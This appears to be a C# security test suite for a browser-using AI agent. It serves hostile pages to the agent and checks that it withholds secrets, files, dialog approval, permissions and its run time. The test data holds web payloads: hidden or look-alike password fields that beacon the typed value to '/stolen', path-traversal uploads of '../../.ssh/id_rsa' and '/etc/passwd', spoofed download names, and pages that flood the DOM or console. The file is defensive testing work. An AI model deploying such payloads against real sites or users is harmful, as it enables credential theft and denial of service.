using Glm45V.Agents.Navigation;
using Glm45V.Agents.Tracing;
using Glm45V.Imaging;
using Glm45V.Plugins.Browser;
using Glm45V.Plugins.Browser.Safety;
using Glm45V.Testing;
using Microsoft.AspNetCore.Http;

namespace Glm45V.Agents.Tests.Security;

/// <summary>Cases 24, 25 and 27 to 31: secrets, files, dialogs, permissions, and pages that cost without end.</summary>
[Trait("Category", "Security")]
public sealed class ResourceCases(ChromiumFixture chromium) : IAsyncDisposable
{
    private const string Password = "hunter2-secret";

    private readonly Lab _lab = new(chromium);

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("<iframe src='{0}login' style='width:300px;height:100px;border:0'></iframe>")] // a look-alike form of another allowed origin
    [InlineData("<form><input aria-label=User><input name=password style='position:absolute;left:-500px' autofocus></form>")] // fields that nobody sees have the focus
    [InlineData("<input name=password style='position:absolute;left:100px;top:200px;width:200px;height:40px;opacity:0' autofocus>")]
    [InlineData("<input name=password style='position:absolute;left:100px;top:200px;width:200px;height:40px' autofocus><div style='position:absolute;left:0;top:0;width:560px;height:420px;background:white'></div>")]
    [InlineData("<input name=password style='position:absolute;left:100px;top:200px;width:2px;height:2px;padding:0;border:0' autofocus>")]
    public async Task Case24_SecretForTheWrongField_IsNotTyped(string body)
    {
        await OpenWithSecretAsync(options => options with { Origins = options.Origins.AndWrite(_lab.Evil.Address.ToString()) });
        _lab.Evil.Add("login", Lab.Document("<input type=password style='width:250px;height:40px' oninput=\"navigator.sendBeacon('/stolen', this.value)\">"));
        await _lab.ShowAsync(string.Format(null, body, _lab.Evil.Address));

        NavigationResult result = await _lab.RunAsync(("type", new { x = 200, y = 120, text = "<secret:pw>" }), ("type", new { text = "<secret:pw>" }), ("wait", new { seconds = 0.3 }));

        Lab.AssertTaskDone(result);
        Assert.DoesNotContain(_lab.Evil.Requests, request => request.Path == "/stolen");
        Assert.Contains("not typed", result.Trajectory.Steps[1].Result.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Case25_SecretThatThePageEchoes_ShowsNowhere()
    {
        await OpenWithSecretAsync();
        await _lab.ShowAsync("""
            <input aria-label=Password style="position:absolute;left:20px;top:20px;width:300px;height:40px" oninput="p.textContent = this.value; document.title = this.value; b.setAttribute('aria-label', this.value); console.log(this.value); history.replaceState(0, '', '#' + this.value)">
            <p id=p style="position:absolute;left:20px;top:100px;margin:0;font-size:30px"></p><button id=b style="position:absolute;left:20px;top:200px" onclick="throw new Error(p.textContent)">OK</button>
            """);

        NavigationResult result = await _lab.RunAsync(("type", new { mark = 1, text = "<secret:pw>" }), ("click", new { mark = 2 }));

        Lab.AssertTaskDone(result);
        Assert.Equal(Password, await _lab.Session.EvaluateAsync<string>("p.textContent", Token));
        await HtmlTrace.WriteAsync(result.Trajectory, Path.Combine(_lab.Folder, "trace.html"), Token);
        foreach (string file in Directory.EnumerateFiles(_lab.Folder, "*", SearchOption.AllDirectories).Where(file => !file.EndsWith(".png", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite));
            Assert.DoesNotContain(Password, await reader.ReadToEndAsync(Token), StringComparison.Ordinal);
        }

        RgbImage last = ImageDecoder.Decode(result.Trajectory.Final!.Png);
        Assert.All(new[] { (30, 40), (30, 118) }, place => Assert.Equal([0, 0, 0], last.Pixels.AsSpan(((place.Item2 * last.Width) + place.Item1) * 3, 3).ToArray()));
    }

    [Theory]
    [InlineData("../../.ssh/id_rsa")]
    [InlineData("/etc/passwd")]
    [InlineData("link")] // leads out of the folder
    [InlineData("missing.txt")]
    public async Task Case27_FileOutsideTheWorkspace_IsNotGiven(string file)
    {
        string workspace = Directory.CreateDirectory(Path.Combine(_lab.Folder, "workspace")).FullName;
        File.CreateSymbolicLink(Path.Combine(workspace, "link"), "/etc/hostname");
        await _lab.OpenAsync(options => options with { Workspace = workspace, Confirmation = ConfirmationPolicy.AllowAll });
        await _lab.ShowAsync("<input type=file aria-label=File onchange=\"document.title = this.files[0]?.name\">");

        NavigationResult result = await _lab.RunAsync(("upload", new { mark = 1, file }));

        Lab.AssertTaskDone(result);
        Assert.Equal("Bank", await _lab.Session.EvaluateAsync<string>("document.title", Token));
        Assert.Contains("is no file of the workspace", result.Trajectory.Steps[0].Result.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Case27_HiddenFileField_TakesWorkspaceFilesOnceAPersonAgrees()
    {
        string workspace = Directory.CreateDirectory(Path.Combine(_lab.Folder, "workspace")).FullName;
        await File.WriteAllTextAsync(Path.Combine(workspace, "cv.txt"), "me", Token);
        foreach ((ConfirmationPolicy policy, string expected) in new[] { (ConfirmationPolicy.DenyAll, "Bank"), (ConfirmationPolicy.AllowAll, "cv.txt") })
        {
            await using var lab = new Lab(chromium);
            await lab.OpenAsync(options => options with { Workspace = workspace, Confirmation = policy });
            await lab.ShowAsync("<input id=f type=file style='display:none' onchange=\"document.title = this.files[0]?.name\"><button onclick='f.click()'>Choose a file</button>");

            NavigationResult result = await lab.RunAsync(("upload", new { mark = 1, file = "cv.txt" }));

            Assert.True(result.Trajectory.Steps[0].Result.Succeeded == (expected == "cv.txt"), result.Trajectory.Steps[0].Result.Error);
            Assert.Equal(expected, await lab.Session.EvaluateAsync<string>("document.title", Token));
        }
    }

    [Theory]
    [InlineData("../../x.txt", "x.txt")]
    [InlineData("CON", "file")]
    [InlineData("invoice\u202Efdp.exe", "invoice_fdp.exe")] // Chromium takes the sign out by itself
    [InlineData("statement.exe", "statement.exe")]
    [InlineData("...", "file")]
    public async Task Case28_DownloadWithAHarmfulName_EndsInQuarantine(string name, string expected)
    {
        string downloads = Path.Combine(_lab.Folder, "downloads");
        await _lab.OpenAsync(options => options with { DownloadFolder = downloads });
        _lab.Bank.AddDownload("file", "content", name);
        await _lab.ShowAsync("<a href=/file>Statement</a>");

        NavigationResult result = await _lab.RunAsync(("click", new { mark = 1 }), ("wait", new { seconds = 0.5 }));

        Lab.AssertTaskDone(result);
        string file = Assert.Single(Directory.GetFiles(downloads));
        Assert.StartsWith("download-1-", Path.GetFileName(file), StringComparison.Ordinal);
        Assert.EndsWith(".quarantine", file, StringComparison.Ordinal);
        Assert.Equal("content", await File.ReadAllTextAsync(file, Token));
        Assert.True(Path.GetFileName(file).Contains(expected, StringComparison.Ordinal) || expected == "file", file);
    }

    [Fact]
    public async Task Case28_DownloadWithoutAFolder_IsRefused()
    {
        await _lab.OpenAsync();
        _lab.Bank.AddDownload("file", "content", "a.txt");
        await _lab.ShowAsync("<a href=/file>Statement</a>");

        NavigationResult result = await _lab.RunAsync(("click", new { mark = 1 }));

        Lab.AssertTaskDone(result);
        Assert.Contains("\"a.txt\" was refused", result.Trajectory.Steps[0].Result.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Case29_DialogsAndLeavingQuestions_AreNeverAccepted()
    {
        await _lab.OpenAsync();
        await _lab.ShowAsync("""
            <button onclick="for (let i = 0; i < 20; i++) { alert('again ' + i); } if (confirm('Delete all?')) { fetch('/delete-now'); } if (prompt('PIN?')) { fetch('/delete-now'); }">Help</button>
            <script>onbeforeunload = e => { e.preventDefault(); return 'stay'; }</script>
            """);
        string next = _lab.Bank.Add("next", Lab.Document("<p>Balance: 120 euros</p>"));

        NavigationResult result = await _lab.RunAsync(("click", new { mark = 1 }), ("goto", new { url = next }));

        Lab.AssertTaskDone(result);
        _lab.AssertNothingDone();
        Assert.Contains("Delete all?", result.Trajectory.Steps[0].Result.Text, StringComparison.Ordinal);
        Assert.Equal(next, result.Trajectory.Final!.Url);
    }

    [Fact]
    public async Task Case30_Permissions_AreNotGranted()
    {
        await _lab.OpenAsync();
        await _lab.ShowAsync("""
            <script>
            const ask = (name, go) => go().then(() => fetch('/transfer-now?' + name, { method: 'POST' }), () => 0);
            ask('geo', () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no, { timeout: 300 })));
            ask('clipboard', () => navigator.clipboard.readText());
            ask('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
            ask('notifications', () => Notification.requestPermission().then(answer => answer === 'granted' ? 0 : Promise.reject()));
            </script>
            """);

        Lab.AssertTaskDone(await _lab.RunAsync(("wait", new { seconds = 0.5 })));

        _lab.AssertNothingDone();
    }

    [Theory]
    [InlineData(30, "<script>const more = () => { for (let i = 0; i < 50; i++) { document.body.append(Object.assign(document.createElement('p'), { textContent: 'more ' + i })); } }; more(); onscroll = more;</script>")]
    [InlineData(60, "<script>document.body.innerHTML = '<p>' + 'x'.repeat(1000).concat('</p><p>').repeat(50000)</script>")] // 50 MB
    [InlineData(30, "<script>document.body.innerHTML = '<button style=\"width:3px;height:9px;padding:0\">x</button>'.repeat(10000)</script>")]
    [InlineData(30, "<style>@keyframes spin { to { transform: rotate(1turn) } } p { animation: spin .1s linear infinite; width: 200px }</style><p>never still</p><script>setInterval(() => document.body.append(document.createElement('i')), 1)</script>")]
    [InlineData(10, "<img src=/slow><script src=/slow async></script>")]
    public async Task Case31_PageWithoutEnd_DoesNotHoldTheRun(int seconds, string body)
    {
        await _lab.OpenAsync(options => options with { Timeout = TimeSpan.FromSeconds(seconds) });
        _lab.Bank.AddAnswer("slow", async context =>
        {
            await context.Response.WriteAsync("/", context.RequestAborted);
            await context.Response.Body.FlushAsync(context.RequestAborted);
            await Task.Delay(Timeout.Infinite, context.RequestAborted).ContinueWith(static _ => { }, TaskScheduler.Default);
        });
        await _lab.ShowAsync($"<body>{body}");

        NavigationResult result = await _lab.RunAsync(("scroll", new { direction = "down" }), ("scroll", new { direction = "down" }));

        Lab.AssertTaskDone(result);
        Assert.All(result.Trajectory.Steps, step => Assert.True((step.Observation.Elements?.Length ?? 0) < 30_000));
    }

    // Ten thousand messages a second keep the browser's driver busy: on a loaded machine no look at the page comes back in time.
    [Fact]
    public async Task Case31_ConsoleFlood_EndsAsDoneOrAsATimedOutPage()
    {
        await _lab.OpenAsync(options => options with { Timeout = TimeSpan.FromSeconds(10) });
        await _lab.ShowAsync("<p>Balance: 120 euros</p><script>onclick = () => setInterval(() => { for (let i = 0; i < 100; i++) { console.log('flood'); } }, 10)</script>");

        NavigationResult result = await _lab.RunAsync(("click", new { x = 500, y = 500 }), ("scroll", new { direction = "down" }));

        Assert.True(result.Outcome == OutcomeKind.Unverified || (result.Outcome == OutcomeKind.Failed && result.Detail.Contains("took longer than 10 s", StringComparison.Ordinal)), result.Detail);
        _lab.AssertNothingDone();
    }

    public ValueTask DisposeAsync() => _lab.DisposeAsync();

    private Task OpenWithSecretAsync(Func<BrowserOptions, BrowserOptions>? change = null) => _lab.OpenAsync(options =>
    {
        BrowserOptions with = options with { Secrets = new SecretStore([new Secret("pw", _lab.Bank.Address.ToString(), Password)]) };
        return change is null ? with : change(with);
    });
}
